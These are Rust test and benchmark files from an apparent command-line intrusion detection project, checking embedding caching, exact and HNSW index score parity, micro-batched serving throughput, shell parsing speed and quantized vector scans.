    let lines = exp.train_lines();
    let dedup = exp.deduped_test();
    let refs: Vec<&str> = dedup.iter().map(|r| r.line.as_str()).collect();

    // Emulate five methods each asking for the same two views, the way
    // the legacy per-method paths each called embed_lines themselves.
    for _ in 0..5 {
        let _ = store.view(&lines, Pooling::Mean);
        let _ = store.view(&refs, Pooling::Mean);
    }
    assert_eq!(store.misses(), 2, "encoder ran once per distinct line set");
    assert_eq!(store.hits(), 8, "remaining requests were cache hits");

    // A different pooling is a different matrix, not a hit.
    let _ = store.view(&refs, Pooling::Cls);
    assert_eq!(store.misses(), 3);
}
