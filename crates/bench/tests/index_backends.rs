//! Pins the vector-index refactor: the exact backend must reproduce
//! the pre-index brute-force detector scores **bit-for-bit**, end to
//! end through the engine, and the HNSW backend must agree with exact
//! on nearly every sample at experiment scale.

use bench::methods::MethodSuite;
use bench::Experiment;
use cmdline_ids::embed::Pooling;
use cmdline_ids::engine::{EmbeddingStore, IndexConfig};
use cmdline_ids::pipeline::PipelineConfig;
use linalg::ops::cosine_similarity;
use linalg::Matrix;

fn tiny_experiment() -> Experiment {
    let mut config = PipelineConfig::fast();
    config.train_size = 800;
    config.test_size = 400;
    config.attack_prob = 0.25;
    Experiment::setup(99, config)
}

/// The pre-refactor retrieval scorer, verbatim: per-call norms, full
/// stable descending sort, mean of the top-k similarities.
fn brute_force_retrieval(train: &Matrix, labels: &[bool], k: usize, test: &Matrix) -> Vec<f32> {
    let rows: Vec<usize> = labels
        .iter()
        .enumerate()
        .filter(|(_, &m)| m)
        .map(|(i, _)| i)
        .collect();
    assert!(!rows.is_empty(), "test data must contain alerted lines");
    (0..test.rows())
        .map(|t| {
            let mut sims: Vec<f32> = rows
                .iter()
                .map(|&r| cosine_similarity(train.row(r), test.row(t)))
                .collect();
            sims.sort_by(|a, b| b.partial_cmp(a).unwrap_or(std::cmp::Ordering::Equal));
            let k = k.min(sims.len());
            sims[..k].iter().sum::<f32>() / k as f32
        })
        .collect()
}

/// The pre-refactor vanilla-kNN scorer, verbatim.
fn brute_force_vanilla(train: &Matrix, labels: &[bool], k: usize, test: &Matrix) -> Vec<f32> {
    (0..test.rows())
        .map(|t| {
            let mut sims: Vec<(f32, bool)> = (0..train.rows())
                .map(|r| (cosine_similarity(train.row(r), test.row(t)), labels[r]))
                .collect();
            sims.sort_by(|a, b| b.0.partial_cmp(&a.0).unwrap_or(std::cmp::Ordering::Equal));
            let k = k.min(sims.len());
            let malicious_sim: f32 = sims[..k].iter().filter(|(_, m)| *m).map(|(s, _)| s).sum();
            let count = sims[..k].iter().filter(|(_, m)| *m).count();
            if count * 2 > k {
                malicious_sim / count as f32
            } else {
                0.0
            }
        })
        .collect()
}

#[test]
fn exact_backend_scores_are_bit_identical_to_brute_force() {
    let exp = tiny_experiment();
    let suite = MethodSuite::new(&exp)
        .with_retrieval(1)
        .with_vanilla_knn(3)
        .run()
        .expect("exact suite runs");

    // Re-derive the reference inputs from the same memoized store the
    // suite used (hits, not fresh encoder passes).
    let store = EmbeddingStore::new(&exp.pipeline);
    let train_lines = exp.train_lines();
    let labels = exp.train_labels();
    let dedup = exp.deduped_test();
    let test_lines: Vec<&str> = dedup.iter().map(|r| r.line.as_str()).collect();
    let train = store.view(&train_lines, Pooling::Mean);
    let test = store.view(&test_lines, Pooling::Mean);

    let want_retrieval = brute_force_retrieval(train.matrix(), &labels, 1, test.matrix());
    let want_vanilla = brute_force_vanilla(train.matrix(), &labels, 3, test.matrix());
    assert_eq!(
        suite.scores("retrieval").expect("registered"),
        &want_retrieval[..],
        "exact-backend retrieval must be bit-identical to the pre-index scan"
    );
    assert_eq!(
        suite.scores("vanilla-knn").expect("registered"),
        &want_vanilla[..],
        "exact-backend vanilla kNN must be bit-identical to the pre-index scan"
    );
}

#[test]
fn sharded_exact_backend_is_bit_identical_to_brute_force() {
    // The shard-aware stack's tier-1 parity pin: a 4-way exact
    // partition, fan-out, and k-way merge must reproduce the
    // pre-index brute-force scores bit-for-bit end to end — not
    // merely approximately.
    let exp = tiny_experiment();
    let suite = MethodSuite::new(&exp)
        .with_shards(4)
        .with_retrieval(1)
        .with_vanilla_knn(3)
        .run()
        .expect("sharded-exact suite runs");

    let store = EmbeddingStore::new(&exp.pipeline);
    let train_lines = exp.train_lines();
    let labels = exp.train_labels();
    let dedup = exp.deduped_test();
    let test_lines: Vec<&str> = dedup.iter().map(|r| r.line.as_str()).collect();
    let train = store.view(&train_lines, Pooling::Mean);
    let test = store.view(&test_lines, Pooling::Mean);

    let want_retrieval = brute_force_retrieval(train.matrix(), &labels, 1, test.matrix());
    let want_vanilla = brute_force_vanilla(train.matrix(), &labels, 3, test.matrix());
    assert_eq!(
        suite.scores("retrieval").expect("registered"),
        &want_retrieval[..],
        "sharded-exact retrieval must be bit-identical to the pre-index scan"
    );
    assert_eq!(
        suite.scores("vanilla-knn").expect("registered"),
        &want_vanilla[..],
        "sharded-exact vanilla kNN must be bit-identical to the pre-index scan"
    );
}

#[test]
fn hnsw_backend_tracks_exact_at_experiment_scale() {
    let exp = tiny_experiment();
    let exact = MethodSuite::new(&exp)
        .with_retrieval(1)
        .run()
        .expect("exact suite");
    let approx = MethodSuite::new(&exp)
        .with_index(IndexConfig::hnsw())
        .with_retrieval(1)
        .run()
        .expect("hnsw suite");
    let e = exact.scores("retrieval").unwrap();
    let a = approx.scores("retrieval").unwrap();
    assert_eq!(e.len(), a.len());
    assert!(a.iter().all(|s| s.is_finite()));
    // Approximate 1NN either finds the same exemplar (identical score)
    // or a near-tie; require ≥ 90% exact agreement — the recall@1
    // contract — and no wild scores on the rest.
    let agree = e.iter().zip(a).filter(|(x, y)| x == y).count();
    assert!(
        agree as f64 >= 0.9 * e.len() as f64,
        "hnsw agreed on only {agree}/{} samples",
        e.len()
    );
    for (&x, &y) in e.iter().zip(a) {
        assert!(
            y <= x + 1e-6,
            "approximate similarity {y} exceeds exact maximum {x}"
        );
    }
}
