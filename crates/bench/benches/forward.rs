//! Criterion bench: transformer forward pass and one MLM training step.

use criterion::{black_box, criterion_group, criterion_main, Criterion};
use nn::{AdamW, Encoder, MlmTrainer, ModelConfig};
use rand::{rngs::StdRng, SeedableRng};

fn bench_forward(c: &mut Criterion) {
    let mut rng = StdRng::seed_from_u64(3);
    let tiny = Encoder::new(ModelConfig::tiny(800), &mut rng);
    let small = Encoder::new(ModelConfig::small(800), &mut rng);
    let ids16: Vec<u32> = (0..16).map(|i| 5 + (i % 700) as u32).collect();
    let ids48: Vec<u32> = (0..48).map(|i| 5 + (i % 700) as u32).collect();

    let mut group = c.benchmark_group("encoder_forward");
    group.bench_function("tiny_seq16", |b| b.iter(|| tiny.forward(black_box(&ids16))));
    group.bench_function("tiny_seq48", |b| b.iter(|| tiny.forward(black_box(&ids48))));
    group.bench_function("small_seq48", |b| {
        b.iter(|| small.forward(black_box(&ids48)))
    });
    group.bench_function("tiny_embed_mean_seq16", |b| {
        b.iter(|| tiny.embed_mean(black_box(&ids16)))
    });
    group.finish();

    let mut group = c.benchmark_group("mlm_step");
    group.sample_size(10);
    group.bench_function("tiny_batch8_seq16", |b| {
        let encoder = Encoder::new(ModelConfig::tiny(800), &mut rng);
        let mut trainer = MlmTrainer::new(encoder, AdamW::new(1e-3, 0.0), 0.15, &mut rng);
        let batch: Vec<Vec<u32>> = (0..8).map(|_| ids16.clone()).collect();
        b.iter(|| trainer.step(black_box(&batch), &mut rng))
    });
    group.finish();
}

criterion_group!(benches, bench_forward);
criterion_main!(benches);
