//! Criterion bench: streamed scoring throughput with and without
//! micro-batching, over the full resident detector set a production
//! deployment keeps hot (both neighbour methods, the Section III
//! unsupervised trio, and the classification probe — six verdicts per
//! line).
//!
//! Two measurements:
//!
//! * **Scoring path** (the headline, asserted ≥ 2×): the worker kernel
//!   — embed the arrivals, fan out the six detectors, transpose the
//!   verdicts — run once per line vs once per 32-line micro-batch.
//!   Per-request costs (pooled-view setup, one scoring fan-out per
//!   arrival, per-call index dispatch) amortize across the batch;
//!   per-line costs (the encoder forward, the similarity scans) are
//!   the irreducible floor.
//! * **End-to-end service**: concurrent producers blocking on
//!   `score_line` against `batch_window = 0` (every request scored
//!   alone) vs a 1 ms window. This includes the per-line transport
//!   costs both modes pay identically — queue hand-off, reply wake-up,
//!   context switches — so its floor assertion is softer; measured
//!   ≈ 2.2× alongside the scoring path's ≈ 2.2× on the 1-core dev
//!   container. On multi-core hosts the batched mode additionally
//!   engages the threaded matmul and parallel fan-out paths that
//!   single-line requests are too small to reach.

use bench::{perf, Experiment};
use cmdline_ids::embed::Pooling;
use cmdline_ids::engine::{
    ClassificationMethod, EmbeddingStore, EmbeddingView, FittedEngine, ScoringEngine,
};
use cmdline_ids::pipeline::PipelineConfig;
use cmdline_ids::tuning::TuneConfig;
use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use serve::{ScoringService, ServeConfig, ServiceClient};
use std::time::Duration;

use anomaly::{
    IsolationForestMethod, OneClassSvmMethod, PcaMethod, RetrievalMethod, VanillaKnnMethod,
};

const PRODUCERS: usize = 32;
const PER_PRODUCER: usize = 48;
const MAX_BATCH: usize = 32;

fn experiment() -> Experiment {
    let mut config = PipelineConfig::fast();
    config.train_size = 900;
    config.test_size = 500;
    config.attack_prob = 0.2;
    Experiment::setup(11, config)
}

/// Fits the full resident detector set: six verdicts per arriving
/// line, as a production deployment would keep hot.
fn fit_resident_set(exp: &Experiment) -> FittedEngine {
    let store = EmbeddingStore::new(&exp.pipeline);
    let train_lines = exp.train_lines();
    let train = store.view(&train_lines, Pooling::Mean);
    ScoringEngine::new()
        .register(Box::new(RetrievalMethod::new(1)))
        .register(Box::new(VanillaKnnMethod::new(3)))
        .register(Box::new(PcaMethod::new(0.95)))
        .register(Box::new(OneClassSvmMethod::new(0.1, 5, 7)))
        .register(Box::new(IsolationForestMethod::new(50, 256, 7)))
        .register(Box::new(ClassificationMethod::new(TuneConfig::scaled(), 7)))
        .fit(&train, &exp.train_labels())
        .expect("resident set fits")
}

/// The scoring-path kernel the service worker runs per micro-batch:
/// embed the lines, score them with every resident detector.
fn score_kernel(exp: &Experiment, fitted: &FittedEngine, lines: &[&str]) {
    let matrix = cmdline_ids::embed::embed_lines(
        exp.pipeline.encoder(),
        exp.pipeline.tokenizer(),
        lines,
        exp.pipeline.max_len(),
        Pooling::Mean,
    );
    let view = EmbeddingView::new(lines.iter().map(|s| s.to_string()).collect(), matrix);
    black_box(fitted.score_each(|_| view.clone()));
}

fn spawn_service(exp: &Experiment, batch_window: Duration) -> ScoringService {
    ScoringService::spawn(
        exp.pipeline.clone(),
        fit_resident_set(exp),
        ServeConfig {
            queue_capacity: 64,
            max_batch: if batch_window.is_zero() { 1 } else { MAX_BATCH },
            batch_window,
            workers: 1,
        },
    )
    .expect("service spawns")
}

/// Replays lines one-per-request from `PRODUCERS` concurrent
/// producers, each walking the corpus from its own offset.
fn replay(client: &ServiceClient, lines: &[String], per_producer: usize) -> Duration {
    let t0 = std::time::Instant::now();
    std::thread::scope(|scope| {
        for p in 0..PRODUCERS {
            let client = client.clone();
            scope.spawn(move || {
                for i in 0..per_producer {
                    let line = &lines[(p * 31 + i) % lines.len()];
                    client.score_line(line).expect("service alive");
                }
            });
        }
    });
    t0.elapsed()
}

fn bench_serve_throughput(c: &mut Criterion) {
    let exp = experiment();
    // The *raw* test stream, repeats and all: serving scores arrivals
    // as they come — Zipf-heavy near-duplicates, exactly what the
    // batched forward and the tokenizer memo exploit (the offline
    // tables deduplicate; the online path must not).
    let lines: Vec<String> = exp.dataset.test.iter().map(|r| r.line.clone()).collect();
    let refs: Vec<&str> = lines.iter().map(String::as_str).collect();

    // ── Scoring path: one line per kernel call vs one micro-batch. ──
    let fitted = fit_resident_set(&exp);
    for chunk in refs.chunks(MAX_BATCH) {
        score_kernel(&exp, &fitted, chunk); // warm caches + scratch
    }
    let t0 = std::time::Instant::now();
    for line in &refs {
        score_kernel(&exp, &fitted, std::slice::from_ref(line));
    }
    let t_single_kernel = t0.elapsed();
    let t0 = std::time::Instant::now();
    for chunk in refs.chunks(MAX_BATCH) {
        score_kernel(&exp, &fitted, chunk);
    }
    let t_batched_kernel = t0.elapsed();
    let kernel_speedup = t_single_kernel.as_secs_f64() / t_batched_kernel.as_secs_f64();
    println!(
        "serve_throughput/scoring-path: {} lines × 6 methods — single-line {:.0} lines/s, \
         micro-batched({MAX_BATCH}) {:.0} lines/s → {kernel_speedup:.1}× speedup",
        refs.len(),
        refs.len() as f64 / t_single_kernel.as_secs_f64(),
        refs.len() as f64 / t_batched_kernel.as_secs_f64(),
    );
    // Measured ≈ 2.2× on the reference 1-core container (the printed
    // line above is the acceptance report); the hard floor is set
    // with headroom because wall-clock ratios are noisy across
    // hardware and load, unlike the repo's deterministic recall
    // asserts.
    assert!(
        kernel_speedup >= 1.5,
        "micro-batching speedup collapsed (got {kernel_speedup:.2}×, expect ≈ 2×)"
    );

    // ── End-to-end service: bounded queue, workers, reply channels. ──
    let single = spawn_service(&exp, Duration::ZERO);
    let batched = spawn_service(&exp, Duration::from_millis(1));
    let single_client = single.client();
    let batched_client = batched.client();
    replay(&single_client, &lines, 2); // warm
    replay(&batched_client, &lines, 2);
    let total = PRODUCERS * PER_PRODUCER;
    let t_single = replay(&single_client, &lines, PER_PRODUCER);
    let t_batched = replay(&batched_client, &lines, PER_PRODUCER);
    let speedup = t_single.as_secs_f64() / t_batched.as_secs_f64();
    let stats = batched.stats();
    println!(
        "serve_throughput/end-to-end: {total} submissions × {PRODUCERS} producers — \
         single-line {:.0} lines/s, micro-batched {:.0} lines/s \
         (avg {:.1} lines/batch) → {speedup:.1}× speedup",
        total as f64 / t_single.as_secs_f64(),
        total as f64 / t_batched.as_secs_f64(),
        stats.lines as f64 / stats.batches.max(1) as f64,
    );
    assert!(
        speedup >= 1.2,
        "end-to-end micro-batching regressed below its single-core floor \
         (got {speedup:.2}×)"
    );

    // Persist the figures beside BENCH_quant.json / BENCH_shard.json;
    // the `net` section of the same file belongs to net_throughput.
    let mut record = perf::Value::object();
    record
        .push("lines", perf::Value::Int(refs.len() as i64))
        .push("methods", perf::Value::Int(6))
        .push("max_batch", perf::Value::Int(MAX_BATCH as i64))
        .push(
            "kernel_single_lines_per_s",
            perf::Value::Float(refs.len() as f64 / t_single_kernel.as_secs_f64()),
        )
        .push(
            "kernel_batched_lines_per_s",
            perf::Value::Float(refs.len() as f64 / t_batched_kernel.as_secs_f64()),
        )
        .push("kernel_speedup", perf::Value::Float(kernel_speedup))
        .push(
            "e2e_single_lines_per_s",
            perf::Value::Float(total as f64 / t_single.as_secs_f64()),
        )
        .push(
            "e2e_batched_lines_per_s",
            perf::Value::Float(total as f64 / t_batched.as_secs_f64()),
        )
        .push("e2e_speedup", perf::Value::Float(speedup))
        .push(
            "avg_lines_per_batch",
            perf::Value::Float(stats.lines as f64 / stats.batches.max(1) as f64),
        )
        .push("gate_kernel_speedup_floor", perf::Value::Float(1.5))
        .push("gate_e2e_speedup_floor", perf::Value::Float(1.2));
    let path = perf::merge_report("BENCH_serve.json", "micro_batching", record);
    println!("serve_throughput: report → {}", path.display());

    let mut group = c.benchmark_group("serve_throughput");
    group.sample_size(10);
    group.throughput(Throughput::Elements(total as u64));
    group.bench_function("single_line", |b| {
        b.iter(|| replay(&single_client, &lines, PER_PRODUCER))
    });
    group.bench_function("micro_batched", |b| {
        b.iter(|| replay(&batched_client, &lines, PER_PRODUCER))
    });
    group.finish();
    drop(single_client);
    drop(batched_client);
    single.shutdown();
    batched.shutdown();
}

criterion_group!(benches, bench_serve_throughput);
criterion_main!(benches);
