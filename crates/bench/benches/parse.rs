//! Criterion bench: shell-parser throughput on representative log lines
//! (the preprocessing stage must keep up with production logging rates).

use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};

fn representative_lines() -> Vec<String> {
    use rand::{rngs::StdRng, SeedableRng};
    let generator = corpus::BenignGenerator::new();
    let mut rng = StdRng::seed_from_u64(1);
    (0..512).map(|_| generator.generate(&mut rng)).collect()
}

fn bench_parse(c: &mut Criterion) {
    let lines = representative_lines();
    let mut group = c.benchmark_group("parse");
    group.throughput(Throughput::Elements(lines.len() as u64));
    group.bench_function("classify_512_lines", |b| {
        b.iter(|| {
            let mut valid = 0usize;
            for line in &lines {
                if shell_parser::classify(black_box(line)).is_valid() {
                    valid += 1;
                }
            }
            black_box(valid)
        })
    });
    group.bench_function("parse_pipeline_line", |b| {
        let line = "cat /var/log/syslog | grep -i error | awk '{print $1}' | sort | uniq -c";
        b.iter(|| shell_parser::parse(black_box(line)).unwrap())
    });
    group.bench_function("reject_invalid_line", |b| {
        let line = "/*/*/* -> /*/*/* ->";
        b.iter(|| shell_parser::parse(black_box(line)).unwrap_err())
    });
    group.finish();
}

criterion_group!(benches, bench_parse);
criterion_main!(benches);
