//! Criterion bench: quantized candidate storage at serving scale —
//! f32 vs f16 vs i8 exact scans over 10k indexed exemplars (dim 64,
//! cluster-structured like production command-line embeddings).
//!
//! What the gates pin before any timing:
//!
//! * **f16 recall@1 ≥ 0.999 vs the f32 exact scan** — binary16 keeps
//!   ~11 bits of mantissa, so a top-1 flip needs two candidates within
//!   ≈ 5·10⁻⁴ cosine of each other; a "hit" is the same exemplar id
//!   *or* a tie within 10⁻³ true cosine (the standard ε-recall tie
//!   tolerance, since bit-equal ranks over near-duplicates are not a
//!   meaningful fidelity signal).
//! * **i8 Spearman ≥ 0.97 vs the f32 scan** — re-pinned under the
//!   exact-integer accumulation rule (i8×i8 → i16 widening multiplies
//!   summed in i32, dequantized once at the end), which perturbs
//!   scores by ~1%; the *ranking* of retrieval scores (what every
//!   downstream PO@v metric consumes) must survive nearly intact.
//! * **Kernel parity** — the blocked batch scan and every i8 kernel
//!   (scalar / SWAR / `core::arch`) must return results identical to
//!   the per-row reference `query` loop: f32 and f16 scores are
//!   bit-identical by construction, and i8 integer accumulation is
//!   exact, so this is an equality assert, not a tolerance.
//! * **Reduced bytes/query** — the point of the axis: every query
//!   streams the whole candidate store once, so bytes-per-query ==
//!   candidate-store bytes; f16 must halve it and i8 roughly quarter
//!   it (codes + one f32 scale per row).
//! * **i8 q/ms ≥ f32 q/ms** — the point of *this* PR's axis: with the
//!   blocked + SIMD kernels, the 3.8× bandwidth cut must show up as
//!   throughput, not just bytes.
//!
//! The per-format scalar / blocked / SIMD q/ms table is also written
//! to `BENCH_quant.json` at the workspace root (see `bench::perf`).

use bench::perf::{self, Value};
use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use index::{ExactIndex, Neighbor, Quantization, VectorIndex};
use linalg::kernels::{arch_kernel_name, I8Kernel};
use linalg::ops::{row_norms, spearman};
use linalg::rng::{clustered_around, randn};
use linalg::Matrix;
use rand::{rngs::StdRng, SeedableRng};

const INDEXED: usize = 10_000;
const DIM: usize = 64;
const CLUSTERS: usize = 250;
const QUERIES: usize = 1_024;
const NOISE: f32 = 0.25;

fn timed(reps: usize, mut f: impl FnMut()) -> f64 {
    let t0 = std::time::Instant::now();
    for _ in 0..reps {
        f();
    }
    t0.elapsed().as_secs_f64() / reps as f64
}

/// The pre-blocking reference path: one `query` call per row.
fn per_row_queries(idx: &ExactIndex, queries: &Matrix, k: usize) -> Vec<Vec<Neighbor>> {
    (0..queries.rows())
        .map(|q| idx.query(queries.row(q), k))
        .collect()
}

/// q/ms for the three scan strategies on one index.
struct ScanTimings {
    /// Per-row `query` loop (scalar kernels, no tiling).
    scalar: f64,
    /// Blocked batch scan on the scalar i8 kernel.
    blocked: f64,
    /// Blocked batch scan on the best `core::arch`/SWAR kernel.
    simd: f64,
}

fn time_scans(idx: &ExactIndex, queries: &Matrix) -> ScanTimings {
    let reps = 3;
    let q_per_ms = |t: f64| QUERIES as f64 / (t * 1000.0);
    ScanTimings {
        scalar: q_per_ms(timed(reps, || {
            black_box(per_row_queries(idx, queries, 1));
        })),
        blocked: q_per_ms(timed(reps, || {
            black_box(idx.query_batch_with_kernel(I8Kernel::Scalar, queries, 1));
        })),
        simd: q_per_ms(timed(reps, || {
            black_box(idx.query_batch_with_kernel(I8Kernel::Arch, queries, 1));
        })),
    }
}

fn bench_quant_scale(c: &mut Criterion) {
    let mut rng = StdRng::seed_from_u64(19);
    let centers = randn(&mut rng, CLUSTERS, DIM, 1.0);
    let data = clustered_around(&mut rng, &centers, INDEXED, NOISE);
    let queries = clustered_around(&mut rng, &centers, QUERIES, NOISE);

    let f32_idx = ExactIndex::build(data.clone());
    let f16_idx = ExactIndex::build_quantized(data.clone(), row_norms(&data), Quantization::F16);
    let i8_idx = ExactIndex::build_quantized(data.clone(), row_norms(&data), Quantization::I8);

    // ── Correctness gates before any timing. ──
    let truth = f32_idx.query_batch(&queries, 1);
    let f16_top = f16_idx.query_batch(&queries, 1);
    let i8_top = i8_idx.query_batch(&queries, 1);

    // Blocked + SIMD scans are asserted *equal* to the per-row
    // reference loop — no follow-up caveat, no tolerance: f32/f16
    // values are bit-identical and i8 accumulation is exact integers.
    for (idx, name) in [(&f32_idx, "f32"), (&f16_idx, "f16"), (&i8_idx, "i8")] {
        let reference = per_row_queries(idx, &queries, 1);
        for kernel in [I8Kernel::Scalar, I8Kernel::Swar, I8Kernel::Arch] {
            let batched = idx.query_batch_with_kernel(kernel, &queries, 1);
            assert_eq!(
                batched,
                reference,
                "{name} blocked scan ({} kernel) diverged from the per-row reference",
                kernel.name()
            );
        }
    }
    println!(
        "quant_scale: blocked/SWAR/{} scans identical to the per-row scalar reference \
         on all three formats (asserted, exact equality)",
        arch_kernel_name()
    );

    // True (f32) cosine of the exemplar each backend chose — a hit is
    // the same id or an ε-tie in true cosine.
    let true_sim =
        |q: usize, id: usize| linalg::ops::cosine_similarity(data.row(id), queries.row(q));
    let eps = 1e-3;
    let f16_hits = (0..QUERIES)
        .filter(|&q| {
            f16_top[q][0].id == truth[q][0].id
                || (true_sim(q, f16_top[q][0].id) - truth[q][0].similarity).abs() <= eps
        })
        .count();
    let f16_recall = f16_hits as f64 / QUERIES as f64;
    assert!(
        f16_recall >= 0.999,
        "f16 recall@1 {f16_recall:.4} ({f16_hits}/{QUERIES}) below the 0.999 gate"
    );

    let f32_scores: Vec<f32> = truth.iter().map(|n| n[0].similarity).collect();
    let i8_scores: Vec<f32> = i8_top.iter().map(|n| n[0].similarity).collect();
    let rho = spearman(&f32_scores, &i8_scores);
    assert!(
        rho >= 0.97,
        "i8 score Spearman {rho:.4} below the 0.97 gate"
    );

    // ── Bytes per query: one full candidate-store stream per scan. ──
    let (b32, b16, b8) = (
        f32_idx.candidate_bytes(),
        f16_idx.candidate_bytes(),
        i8_idx.candidate_bytes(),
    );
    assert_eq!(b16 * 2, b32, "f16 must halve candidate bytes");
    assert!(
        b8 * 3 < b32,
        "i8 (+ scales) must cut candidate bytes at least 3x: {b8} vs {b32}"
    );

    // ── The measured table: per-format scalar vs blocked vs SIMD. ──
    let t32 = time_scans(&f32_idx, &queries);
    let t16 = time_scans(&f16_idx, &queries);
    let t8 = time_scans(&i8_idx, &queries);
    println!(
        "quant_scale: {INDEXED}×{DIM}, {QUERIES} queries, arch kernel = {} —\n\
         \x20 format  B/query      scalar     blocked        SIMD\n\
         \x20 f32  {b32:>9}  {:>7.1} q/ms {:>7.1} q/ms {:>7.1} q/ms (reference)\n\
         \x20 f16  {b16:>9}  {:>7.1} q/ms {:>7.1} q/ms {:>7.1} q/ms ({:.2}× fewer bytes), recall@1 {f16_recall:.4} (gate ≥ 0.999)\n\
         \x20 i8   {b8:>9}  {:>7.1} q/ms {:>7.1} q/ms {:>7.1} q/ms ({:.2}× fewer bytes), Spearman {rho:.4} (gate ≥ 0.97)",
        arch_kernel_name(),
        t32.scalar, t32.blocked, t32.simd,
        t16.scalar, t16.blocked, t16.simd,
        b32 as f64 / b16 as f64,
        t8.scalar, t8.blocked, t8.simd,
        b32 as f64 / b8 as f64,
    );

    // The floor this PR's axis exists to clear: quantized bytes must
    // now buy throughput. Print the measured figure *and* the floor
    // the assertion below enforces.
    println!(
        "quant_scale: i8 SIMD {:.1} q/ms vs f32 SIMD {:.1} q/ms (floor: i8 ≥ f32)",
        t8.simd, t32.simd
    );
    assert!(
        t8.simd >= t32.simd,
        "i8 blocked+SIMD scan ({:.1} q/ms) must not be slower than the f32 scan ({:.1} q/ms)",
        t8.simd,
        t32.simd
    );

    // ── Machine-readable record for CI/roadmap diffing. ──
    let row = |name: &str, bytes: usize, t: &ScanTimings| {
        let mut r = Value::object();
        r.push("format", Value::Str(name.into()))
            .push("bytes_per_query", Value::Int(bytes as i64))
            .push("q_per_ms_scalar", Value::Float(t.scalar))
            .push("q_per_ms_blocked", Value::Float(t.blocked))
            .push("q_per_ms_simd", Value::Float(t.simd));
        r
    };
    let mut gates = Value::object();
    gates
        .push("f16_recall_at_1", Value::Float(f16_recall))
        .push("f16_recall_floor", Value::Float(0.999))
        .push("i8_spearman", Value::Float(rho as f64))
        .push("i8_spearman_floor", Value::Float(0.97))
        .push("kernel_parity_exact", Value::Bool(true))
        .push("i8_simd_q_per_ms_floor", Value::Str("f32_simd".into()));
    let mut record = Value::object();
    record
        .push("bench", Value::Str("quant_scale".into()))
        .push("indexed", Value::Int(INDEXED as i64))
        .push("dim", Value::Int(DIM as i64))
        .push("queries", Value::Int(QUERIES as i64))
        .push("arch_kernel", Value::Str(arch_kernel_name().into()))
        .push("gates", gates)
        .push(
            "formats",
            Value::Array(vec![
                row("f32", b32, &t32),
                row("f16", b16, &t16),
                row("i8", b8, &t8),
            ]),
        );
    let path = perf::write_report("BENCH_quant.json", &record);
    println!("quant_scale: wrote {}", path.display());

    let mut group = c.benchmark_group("quant_scale");
    group.sample_size(10);
    group.throughput(Throughput::Elements(QUERIES as u64));
    group.bench_function("exact_f32", |b| {
        b.iter(|| f32_idx.query_batch(black_box(&queries), 1))
    });
    group.bench_function("exact_f16", |b| {
        b.iter(|| f16_idx.query_batch(black_box(&queries), 1))
    });
    group.bench_function("exact_i8", |b| {
        b.iter(|| i8_idx.query_batch(black_box(&queries), 1))
    });
    group.finish();
}

criterion_group!(benches, bench_quant_scale);
criterion_main!(benches);
