//! Criterion bench: quantized candidate storage at serving scale —
//! f32 vs f16 vs i8 exact scans over 10k indexed exemplars (dim 64,
//! cluster-structured like production command-line embeddings).
//!
//! What the gates pin before any timing:
//!
//! * **f16 recall@1 ≥ 0.999 vs the f32 exact scan** — binary16 keeps
//!   ~11 bits of mantissa, so a top-1 flip needs two candidates within
//!   ≈ 5·10⁻⁴ cosine of each other; a "hit" is the same exemplar id
//!   *or* a tie within 10⁻³ true cosine (the standard ε-recall tie
//!   tolerance, since bit-equal ranks over near-duplicates are not a
//!   meaningful fidelity signal).
//! * **i8 Spearman ≥ 0.97 vs the f32 scan** — per-row symmetric int8
//!   perturbs scores by ~1%, so the *ranking* of retrieval scores
//!   (what every downstream PO@v metric consumes) must survive nearly
//!   intact.
//! * **Reduced bytes/query** — the point of the axis: every query
//!   streams the whole candidate store once, so bytes-per-query ==
//!   candidate-store bytes; f16 must halve it and i8 roughly quarter
//!   it (codes + one f32 scale per row).

use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use index::{ExactIndex, Quantization, VectorIndex};
use linalg::ops::{row_norms, spearman};
use linalg::rng::{clustered_around, randn};
use rand::{rngs::StdRng, SeedableRng};

const INDEXED: usize = 10_000;
const DIM: usize = 64;
const CLUSTERS: usize = 250;
const QUERIES: usize = 1_024;
const NOISE: f32 = 0.25;

fn timed(reps: usize, mut f: impl FnMut()) -> f64 {
    let t0 = std::time::Instant::now();
    for _ in 0..reps {
        f();
    }
    t0.elapsed().as_secs_f64() / reps as f64
}

fn bench_quant_scale(c: &mut Criterion) {
    let mut rng = StdRng::seed_from_u64(19);
    let centers = randn(&mut rng, CLUSTERS, DIM, 1.0);
    let data = clustered_around(&mut rng, &centers, INDEXED, NOISE);
    let queries = clustered_around(&mut rng, &centers, QUERIES, NOISE);

    let f32_idx = ExactIndex::build(data.clone());
    let f16_idx = ExactIndex::build_quantized(data.clone(), row_norms(&data), Quantization::F16);
    let i8_idx = ExactIndex::build_quantized(data.clone(), row_norms(&data), Quantization::I8);

    // ── Correctness gates before any timing. ──
    let truth = f32_idx.query_batch(&queries, 1);
    let f16_top = f16_idx.query_batch(&queries, 1);
    let i8_top = i8_idx.query_batch(&queries, 1);

    // True (f32) cosine of the exemplar each backend chose — a hit is
    // the same id or an ε-tie in true cosine.
    let true_sim =
        |q: usize, id: usize| linalg::ops::cosine_similarity(data.row(id), queries.row(q));
    let eps = 1e-3;
    let f16_hits = (0..QUERIES)
        .filter(|&q| {
            f16_top[q][0].id == truth[q][0].id
                || (true_sim(q, f16_top[q][0].id) - truth[q][0].similarity).abs() <= eps
        })
        .count();
    let f16_recall = f16_hits as f64 / QUERIES as f64;
    assert!(
        f16_recall >= 0.999,
        "f16 recall@1 {f16_recall:.4} ({f16_hits}/{QUERIES}) below the 0.999 gate"
    );

    let f32_scores: Vec<f32> = truth.iter().map(|n| n[0].similarity).collect();
    let i8_scores: Vec<f32> = i8_top.iter().map(|n| n[0].similarity).collect();
    let rho = spearman(&f32_scores, &i8_scores);
    assert!(
        rho >= 0.97,
        "i8 score Spearman {rho:.4} below the 0.97 gate"
    );

    // ── Bytes per query: one full candidate-store stream per scan. ──
    let (b32, b16, b8) = (
        f32_idx.candidate_bytes(),
        f16_idx.candidate_bytes(),
        i8_idx.candidate_bytes(),
    );
    assert_eq!(b16 * 2, b32, "f16 must halve candidate bytes");
    assert!(
        b8 * 3 < b32,
        "i8 (+ scales) must cut candidate bytes at least 3x: {b8} vs {b32}"
    );

    let reps = 3;
    let t32 = timed(reps, || {
        black_box(f32_idx.query_batch(&queries, 1));
    });
